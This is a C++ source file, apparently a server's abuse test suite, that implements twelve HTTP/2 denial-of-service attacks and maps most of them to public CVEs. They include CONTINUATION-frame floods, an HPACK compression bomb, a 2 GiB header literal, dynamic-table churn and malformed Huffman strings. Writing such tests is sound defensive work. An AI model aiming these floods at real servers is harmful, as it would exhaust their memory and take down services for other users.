// Attacks with blocks of header fields and their compression.
#include <algorithm>
#include <string>

#include "tests/abuse/attack.h"
#include "tests/net/http2_bytes.h"

namespace flagfall::abuse {
namespace {

using std::chrono::milliseconds;

// Field values in these attacks.
constexpr std::size_t kEntryBytes = 4000;

// So many frames come at a pace that no budget of frames minds.
constexpr int kFramesOfABurst = 1500;
constexpr int kFramesOfATick = 4;
constexpr milliseconds kTick(10);

// CONTINUATION frames, fast at first and then slowly, without end. An attack makes one of these for all its
// connections: megabytes that each connection allocates would hold up the bystander, who lives in the same process.
class SlowContinuation {
 public:
  explicit SlowContinuation(const std::string& payload)
      : burst_(Repeated(Frame(kContinuation, 1, payload), kFramesOfABurst)),
        tick_(Repeated(Frame(kContinuation, 1, payload), kFramesOfATick)) {}

  void SendOn(RawConnection& connection) const {
    connection.Send(burst_);
    while (connection.Send(tick_)) connection.Pause(kTick);
  }

 private:
  const std::string burst_;
  const std::string tick_;
};

// A literal that claims 2 GiB: whether the fields are too long is known only when all of it has come, so it is kept;
// and it may be copied for each piece that comes. The pieces are as small as can be once a good deal has been sent.
void LiteralOfTwoGib(RawConnection& connection) {
  const std::string beginning =
      CallFields(kPlayPath) + std::string(1, '\0') + HpackInteger(1, 7) + "a" + HpackInteger(0x7fffffff, 7);
  connection.Send(Preface() + Frame(kHeaders, 1, beginning));
  static const std::string mebibyte = Repeated(Frame(kContinuation, 1, std::string(kFrameBytes, 'x')), 64);
  static const std::string pieces = Repeated(Frame(kContinuation, 1, "x"), 700);
  for (int i = 0; i < 2; ++i) connection.Send(mebibyte + pieces);
  while (connection.Send(Repeated(Frame(kContinuation, 1, "x"), kFramesOfATick))) connection.Pause(kTick);
}

// An integer with a prefix of zeros that never ends.
void IntegerWithoutEnd(RawConnection& connection) {
  connection.Send(Preface() + Frame(kHeaders, 1, CallFields(kPlayPath) + std::string("\0\x7f", 2)));
  static const SlowContinuation continuation(std::string(1024, '\x80'));
  continuation.SendOn(connection);
}

// Small fields without END_HEADERS, so that no sum of them is ever checked.
void ContinuationFlood(RawConnection& connection) {
  connection.Send(Preface() + Frame(kHeaders, 1, CallFields(kPlayPath)));
  static const SlowContinuation continuation(Repeated(HpackLiteral("name", "value"), 200));
  continuation.SendOn(connection);
}

void EmptyContinuationFlood(RawConnection& connection) {
  connection.Send(Preface() + Frame(kHeaders, 1, CallFields(kPlayPath)));
  const std::string frames = Repeated(Frame(kContinuation, 1, ""), 128);
  while (connection.Send(frames)) {
  }
}

// One entry of the dynamic table and thousands of references to it, a byte each: 64 MiB from 20 KiB.
void HpackBomb(RawConnection& connection) {
  connection.Send(Preface());
  const std::string entry = HpackIndexedLiteral("bomb", std::string(kEntryBytes, 'x'));
  connection.Send(CallHeaders(1, kHealthCheckPath, kNoFlags, entry));
  for (std::uint32_t stream = 3; connection.Receive(); stream += 2) {
    const std::string references = Repeated(HpackReference(kNewestEntry), kFrameBytes - 200);
    connection.Send(CallHeaders(stream, kHealthCheckPath, kEndStream, references));
  }
}

// Many fields without name or value: no bytes to be counted, and yet each is kept.
void ZeroLengthHeaders(RawConnection& connection) {
  const std::string fields = Repeated(HpackLiteral("", ""), 5000);
  connection.Send(Preface());
  for (std::uint32_t stream = 1; connection.Receive(); stream += 2) {
    connection.Send(CallHeaders(stream, kHealthCheckPath, kEndStream, fields));
  }
}

// Sixteen KiB of small fields in each call.
void ManySmallHeaders(RawConnection& connection) {
  const std::string fields = Repeated(HpackLiteral("a", ""), 4000);
  connection.Send(Preface());
  for (std::uint32_t stream = 1; connection.Receive(); stream += 2) {
    connection.Send(CallHeaders(stream, kHealthCheckPath, kEndStream, fields));
  }
}

// Every field enters the dynamic table and drives others out of it.
void TableChurn(RawConnection& connection) {
  connection.Send(Preface());
  for (std::uint32_t stream = 1; connection.Receive(); stream += 2) {
    std::string fields;
    for (int i = 0; i < 100; ++i) fields += HpackIndexedLiteral("k" + std::to_string(i), "");
    fields += HpackIndexedLiteral("all-others-out", std::string(kEntryBytes, 'x'));
    connection.Send(CallHeaders(stream, kHealthCheckPath, kEndStream, fields));
  }
}

// Updates of the table's size, of which two may stand at the beginning of a block: as many as a frame holds.
void TableSizeUpdateStorm(RawConnection& connection) {
  constexpr std::uint8_t kUpdate = 0x20;
  const std::string pair = HpackInteger(0, 5, kUpdate) + HpackInteger(4096, 5, kUpdate);
  const std::string updates = Repeated(pair, (kFrameBytes - 200) / pair.size());
  connection.Send(Preface());
  for (std::uint32_t stream = 1; connection.Receive(); stream += 2) {
    connection.Send(Frame(kHeaders, stream, updates + CallFields(kHealthCheckPath), kEndHeaders | kEndStream));
  }
}

// The same with the two that are allowed, in each call.
void TableSizeUpdateInEachCall(RawConnection& connection) {
  constexpr std::uint8_t kUpdate = 0x20;
  const std::string pair = HpackInteger(0, 5, kUpdate) + HpackInteger(4096, 5, kUpdate);
  connection.Send(Preface());
  for (std::uint32_t stream = 1; connection.Receive(); stream += 2) {
    connection.Send(Frame(kHeaders, stream, pair + CallFields(kHealthCheckPath), kEndHeaders | kEndStream));
  }
}

void ReferenceToNothing(RawConnection& connection) {
  connection.Send(Preface() + CallHeaders(1, kHealthCheckPath, kEndStream, HpackReference(1'000'000)));
}

// A string of Huffman codes that are none.
void HuffmanRubbish(RawConnection& connection) {
  constexpr std::uint8_t kHuffman = 0x80;
  const std::string rubbish = std::string(1, '\0') + HpackInteger(1, 7) + "a" + HpackInteger(kEntryBytes, 7, kHuffman) +
                              std::string(kEntryBytes, '\xff');
  connection.Send(Preface());
  for (std::uint32_t stream = 1; connection.Receive(); stream += 2) {
    connection.Send(CallHeaders(stream, kHealthCheckPath, kEndStream, rubbish));
  }
}

}  // namespace

std::vector<Attack> HpackAttacks() {
  using Demand = Attack::Demand;
  return {
      {"LiteralOfTwoGib", "CVE-2023-33953", LiteralOfTwoGib, Demand::kEnd},
      {"IntegerWithoutEnd", "CVE-2023-33953", IntegerWithoutEnd, Demand::kEnd},
      {"ContinuationFlood", "CVE-2024-27316", ContinuationFlood, Demand::kEnd},
      {"EmptyContinuationFlood", "CVE-2024-28182", EmptyContinuationFlood, Demand::kEnd},
      {"HpackBomb", "CVE-2016-6581", HpackBomb},
      {"ZeroLengthHeaders", "CVE-2019-9516", ZeroLengthHeaders},
      {"ManySmallHeaders", "", ManySmallHeaders},
      {"TableChurn", "CVE-2023-33953", TableChurn},
      {"TableSizeUpdateStorm", "CVE-2023-33953", TableSizeUpdateStorm, Demand::kEnd},
      {"TableSizeUpdateInEachCall", "CVE-2023-33953", TableSizeUpdateInEachCall},
      {"ReferenceToNothing", "", ReferenceToNothing, Demand::kEnd},
      {"HuffmanRubbish", "", HuffmanRubbish, Demand::kEnd},
  };
}

}  // namespace flagfall::abuse
